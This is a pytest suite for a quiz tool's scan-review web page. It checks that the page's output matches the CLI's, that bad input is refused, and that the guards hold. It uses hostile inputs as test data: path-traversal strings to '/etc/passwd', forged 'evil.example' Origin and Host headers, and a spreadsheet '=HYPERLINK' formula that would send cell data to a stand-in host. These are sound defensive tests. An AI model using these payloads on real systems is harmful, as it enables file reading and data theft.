"""`quiz serve --scan ANSWERS`: the page that settles a scan's review, driven over HTTP and in Chromium.

What the page writes is what `quiz scan --fix` writes for the same answers (the two share
`attnquiz.engine.scan.settle.settle_answer`), checked byte for byte on a copy of the same scan; the page
keeps the server's guard (token, Host, CSRF) and serves only the review's own PNGs.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from html import unescape
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("cv2")
pytest.importorskip("pypdfium2")

from tests.web.conftest import Server, csrf_of, launched_chromium, start_server
from tests.web.scan_review_fixture import ScannedClass, quiz, scanned_class


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> ScannedClass:
    """The class scanned once; each test works on its own copy of the folder."""
    return scanned_class(tmp_path_factory.mktemp("scanned"))


def copy_of(scanned: ScannedClass, target: Path) -> ScannedClass:
    shutil.copytree(scanned.folder, target)
    doc = json.loads((target / "answers.review.json").read_text(encoding="utf-8"))
    doc["sheets"] = str(target / "out" / "answer-sheets.json")  # the copy's own sheets
    doc["answers"] = str(target / "answers.csv")
    (target / "answers.review.json").write_text(json.dumps(doc, indent=1) + "\n", encoding="utf-8")
    return ScannedClass(
        target, target / "answers.csv", target / "answers.review.json", scanned.layout,
        scanned.choice, scanned.faint, scanned.covered_page,
    )  # fmt: skip


@pytest.fixture
def served(scanned: ScannedClass, tmp_path: Path) -> Iterator[tuple[Server, ScannedClass]]:
    mine = copy_of(scanned, tmp_path / "class")
    server = start_server("week1", "--scan", str(mine.answers), db=tmp_path / "history.sqlite3")
    try:
        yield server, mine
    finally:
        server.stop()


def item_numbers(scanned: ScannedClass) -> dict[str, int]:
    items = scanned.items()
    return {
        "page": next(i["n"] for i in items if i["kind"] == "page"),
        "faint": next(i["n"] for i in items if i["kind"] == "field" and i["column"] == scanned.faint[1]),
        "choice": next(i["n"] for i in items if i["kind"] == "field" and i["column"] == scanned.choice[1]),
        "missing": next(i["n"] for i in items if i["kind"] == "missing"),
    }


def faint_answer(scanned: ScannedClass) -> str:
    """Student 1's right answer to the question with the faint digit, as the instructor types it."""
    from attnquiz.engine.bank import finding as banks
    from attnquiz.engine.seeding import seed_from_code

    code = next(p["code"] for p in scanned.layout["pages"] if p["student"] == 1)
    return banks.load("week1").get(scanned.faint[1]).question(seed_from_code(code)).answer.format()


def settle(server: Server, n: int, csrf: str = "", **fields: str) -> Any:
    """Send item ``n``'s form as the page gives it (with its CSRF token, or ``csrf``)."""
    if not csrf:
        csrf = csrf_of(server.request("GET", "/scan").body)
    return server.request("POST", f"/scan/{n}", form={"csrf": csrf, **fields})


def test_the_page_lists_every_open_item_with_its_image(served: tuple[Server, ScannedClass]) -> None:
    server, scanned = served
    numbers = item_numbers(scanned)
    page = server.request("GET", "/scan")
    assert page.status == 200
    assert "<strong>4</strong> things to settle" in page.body
    body = unescape(page.body)
    for item in scanned.items():
        assert f'id="item-{item["n"]}"' in page.body
        assert item["reason"] in body
    # The choice item offers each option that was filled, and "no answer".
    choice = page.body[page.body.index(f'id="item-{numbers["choice"]}"') :]
    choice = choice[: choice.index("</section>")]
    right, other = scanned.choice[2], scanned.choice[3]
    assert f'value="read:{right}"' in choice
    assert f'value="read:{other}"' in choice
    assert 'value="blank"' in choice
    # A page missing from the scans is scanned again, or recorded as not handed in.
    missing = page.body[page.body.index(f'id="item-{numbers["missing"]}"') :]
    missing = missing[: missing.index("</section>")]
    assert missing.count("<form") == 1
    assert 'value="absent"' in missing
    # A page whose QR code could not be read is named, or set aside as not one of these sheets.
    unread = page.body[page.body.index(f'id="item-{numbers["page"]}"') :]
    assert 'value="stray"' in unread[: unread.index("</section>")]
    for n in (numbers["page"], numbers["faint"], numbers["choice"]):
        image = server.request("GET", f"/scan/image/{n}")
        assert image.status == 200
        assert image.headers["content-type"] == "image/png"
        assert "content-security-policy" in image.headers
    assert server.request("GET", f"/scan/image/{numbers['missing']}").status == 404
    # Every item shows its crop, or says why it has none.
    for item in scanned.items():
        section = page.body[page.body.index(f'id="item-{item["n"]}"') :]
        section = unescape(section[: section.index("</section>")])
        if item["crop"]:
            assert f'<img src="/scan/image/{item["n"]}"' in section
        else:
            assert item["no_crop"].startswith("no image: ")
            assert f'<p class="scan-no-image">N{item["no_crop"][1:]}.</p>' in section
    assert "No image: this page was not in the scans." in missing


def test_the_page_writes_what_scan_fix_writes(
    served: tuple[Server, ScannedClass], scanned: ScannedClass, tmp_path: Path
) -> None:
    server, web = served
    numbers = item_numbers(web)
    typed = faint_answer(web)
    right = scanned.choice[2]
    csrf = csrf_of(server.request("GET", "/scan").body)
    # The same answers through --fix, on a copy of the same scan.
    cli = copy_of(scanned, tmp_path / "cli")
    stdin = "\n".join(
        {
            numbers["page"]: "2 1",
            numbers["faint"]: typed,
            numbers["choice"]: right,
            numbers["missing"]: "skip",
        }[i["n"]]
        for i in cli.items()
    )
    done = quiz("scan", "--fix", "-o", "answers.csv", cwd=cli.folder, stdin=stdin + "\n")
    assert done.returncode == 0, done.stdout + done.stderr
    assert settle(server, numbers["page"], student="2", sheet_page="1").status == 303
    assert settle(server, numbers["faint"], choice="typed", typed=typed).status == 303
    reply = settle(server, numbers["choice"], choice=f"read:{right}")
    assert reply.status == 303
    assert reply.headers["location"] == f"/scan?done={numbers['choice']}#result"
    assert web.answers.read_bytes() == cli.answers.read_bytes()
    assert web.items() == cli.items()
    assert "?review" not in web.answers.read_text(encoding="utf-8")
    after = server.request("GET", f"/scan?done={numbers['choice']}")
    assert "Nothing left to settle" in after.body
    assert f"Item {numbers['choice']} (student 1, page 2, {scanned.choice[1]}) settled: {right}." in unescape(
        after.body
    )
    # Settled once: sending the form again changes nothing.
    before = web.answers.read_bytes()
    assert settle(server, numbers["choice"], csrf, choice="blank").status == 303
    assert web.answers.read_bytes() == before


def test_no_answer_leaves_the_cell_empty(served: tuple[Server, ScannedClass]) -> None:
    server, scanned = served
    n = item_numbers(scanned)["faint"]
    assert settle(server, n, choice="blank", typed="ignored").status == 303
    (item,) = [i for i in scanned.items() if i["n"] == n]
    assert item["value"] == ""
    header, *rows = [line.split(",") for line in scanned.answers.read_text(encoding="utf-8").splitlines()]
    assert rows[0][header.index(scanned.faint[1])] == ""


@pytest.mark.parametrize(
    ("which", "fields", "why"),
    [
        ("choice", {"choice": "read:Z"}, "choose a reading"),  # a reading the page never offered
        ("choice", {}, "choose a reading"),
        ("faint", {"choice": "typed", "typed": "  "}, "type the answer"),
        ("faint", {"choice": "typed", "typed": "1\n2"}, "on one line"),
        ("faint", {"choice": "typed", "typed": "1\x1b[2J"}, "on one line"),
        ("faint", {"choice": "typed", "typed": "9" * 501}, "at most 500"),
        ("faint", {"choice": "typed", "typed": "?review 3"}, "under review"),
        ("page", {"student": "2"}, "give the student number"),
        ("page", {"student": "2", "sheet_page": "x"}, "e.g. 12 1"),
        ("page", {"student": "٢", "sheet_page": "1"}, "e.g. 12 1"),  # an Arabic-Indic digit
        ("page", {"student": "9", "sheet_page": "1"}, "no page 1 for student 9"),
        ("missing", {"choice": "blank"}, "scanned again"),
    ],
)
def test_a_refused_answer_changes_nothing_and_says_why(
    served: tuple[Server, ScannedClass], which: str, fields: dict[str, str], why: str
) -> None:
    server, scanned = served
    n = item_numbers(scanned)[which]
    before = (scanned.answers.read_bytes(), scanned.review.read_bytes())
    reply = settle(server, n, **fields)
    assert reply.status == 400, reply.body[:300]
    error = re.search(rf'id="item-{n}-error" role="alert">([^<]*)<', reply.body)
    assert error, reply.body
    assert why in unescape(error.group(1))
    assert (scanned.answers.read_bytes(), scanned.review.read_bytes()) == before


def test_the_guard_holds_on_the_review_page(served: tuple[Server, ScannedClass]) -> None:
    server, scanned = served
    n = item_numbers(scanned)["choice"]
    page = server.request("GET", "/scan")
    csrf = csrf_of(page.body)
    before = scanned.answers.read_bytes()
    form = {"csrf": csrf, "choice": "blank"}
    assert server.request("GET", "/scan", cookie=False).status == 403
    assert server.request("GET", f"/scan/image/{n}", cookie=False).status == 403
    assert server.request("POST", f"/scan/{n}", form=form, cookie=False).status == 403
    assert server.request("POST", f"/scan/{n}", form={**form, "csrf": "0" * 64}).status == 403
    assert server.request("POST", f"/scan/{n}", form={"choice": "blank"}).status == 403
    hostile = {"Origin": "http://evil.example"}
    assert server.request("POST", f"/scan/{n}", form=form, headers=hostile).status == 403
    assert server.request("GET", "/scan", headers={"Host": "evil.example"}).status in (400, 403, 421)
    assert server.request("POST", "/scan/999", form=form).status == 404
    assert server.request("POST", "/scan/x", form=form).status == 404
    assert scanned.answers.read_bytes() == before


@pytest.mark.parametrize(
    "crop", ["../../../../etc/passwd", "/etc/passwd", "answers.csv", "link.png", "fake.png"]
)
def test_only_the_reviews_own_pngs_are_served(served: tuple[Server, ScannedClass], crop: str) -> None:
    server, scanned = served
    (scanned.folder / "fake.png").write_text("not a picture", encoding="utf-8")
    outside = scanned.folder.parent / "outside.png"
    shutil.copyfile(next((scanned.folder / "answers.review-images").glob("*.png")), outside)
    (scanned.folder / "link.png").symlink_to(outside)
    doc = json.loads(scanned.review.read_text(encoding="utf-8"))
    doc["items"][0]["crop"] = crop
    scanned.review.write_text(json.dumps(doc), encoding="utf-8")
    reply = server.request("GET", f"/scan/image/{doc['items'][0]['n']}")
    assert reply.status == 404, reply.body[:200]


def test_a_broken_review_file_is_a_message(served: tuple[Server, ScannedClass]) -> None:
    server, scanned = served
    csrf = csrf_of(server.request("GET", "/scan").body)
    for text in (
        "{",
        '{"format": "quiz-scan-review"}',
        '{"format": "quiz-scan-review", "items": [{"n": "x"}]}',
    ):
        scanned.review.write_text(text, encoding="utf-8")
        page = server.request("GET", "/scan")
        assert page.status == 200
        assert 'class="notice error" role="alert"' in page.body, page.body[:300]
        reply = server.request("POST", "/scan/1", form={"csrf": csrf, "choice": "blank"})
        assert reply.status == 409


def test_without_scan_there_is_no_review_page(shared: Server) -> None:
    assert shared.request("GET", "/scan").status == 404
    assert "Scan review" not in shared.request("GET", "/").body


def test_scan_must_name_an_answers_file(tmp_path: Path) -> None:
    done = quiz("serve", "--scan", str(tmp_path / "none.csv"), cwd=tmp_path)
    assert done.returncode == 2
    assert "no answers file" in done.stderr


def test_an_item_is_settled_with_the_keyboard_alone(served: tuple[Server, ScannedClass]) -> None:
    server, scanned = served
    n = item_numbers(scanned)["choice"]
    right, other = scanned.choice[2], scanned.choice[3]
    with launched_chromium() as browser:
        page = browser.new_page()
        page.goto(server.url)
        page.goto(f"{server.base}/scan")
        assert page.locator(f"#item-{n} img").evaluate("e => e.naturalWidth") > 0  # the crop loads
        page.evaluate("document.activeElement && document.activeElement.blur()")
        for _ in range(60):  # Tab to the choice's first radio button
            page.keyboard.press("Tab")
            focused = page.evaluate("[document.activeElement.name, document.activeElement.form?.action]")
            if focused[0] == "choice" and focused[1].endswith(f"/scan/{n}"):
                break
        else:
            raise AssertionError("Tab never reached the choice's readings")
        # The arrows move within the group (and choose); the first reading is either option.
        first = page.evaluate("document.activeElement.value")
        if first != f"read:{right}":
            page.keyboard.press("ArrowDown")
        assert page.evaluate("document.activeElement.value") == f"read:{right}", other
        assert page.evaluate("document.activeElement.checked")
        for _ in range(6):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.tagName") == "BUTTON":
                break
        with page.expect_navigation():
            page.keyboard.press("Enter")
        assert f"settled: {right}." in page.locator("#result").inner_text()
    (item,) = [i for i in scanned.items() if i["n"] == n]
    assert item["value"] == right


def test_a_stray_page_and_a_page_not_handed_in_are_settled_as_fix_settles_them(
    served: tuple[Server, ScannedClass], scanned: ScannedClass, tmp_path: Path
) -> None:
    server, web = served
    numbers = item_numbers(web)
    cli = copy_of(scanned, tmp_path / "cli")
    stdin = "\n".join(
        {numbers["page"]: "stray", numbers["missing"]: "absent"}.get(i["n"], "skip") for i in cli.items()
    )
    done = quiz("scan", "--fix", "-o", "answers.csv", cwd=cli.folder, stdin=stdin + "\n")
    assert "Settled 2; 2 left" in done.stdout, done.stdout + done.stderr
    assert settle(server, numbers["page"], choice="stray").status == 303
    assert settle(server, numbers["missing"], choice="absent").status == 303
    assert web.answers.read_bytes() == cli.answers.read_bytes()
    assert web.items() == cli.items()
    values = {i["n"]: i["value"] for i in web.items()}
    assert values[numbers["page"]].startswith("set aside")
    assert values[numbers["missing"]].startswith("not handed in")
    # what a spreadsheet would run as a formula is refused, with nothing written
    before = web.answers.read_bytes()
    reply = settle(server, numbers["faint"], choice="typed", typed='=HYPERLINK("http://x.test/?"&A1)')
    assert reply.status == 400
    assert "spreadsheet" in unescape(reply.body)
    assert web.answers.read_bytes() == before
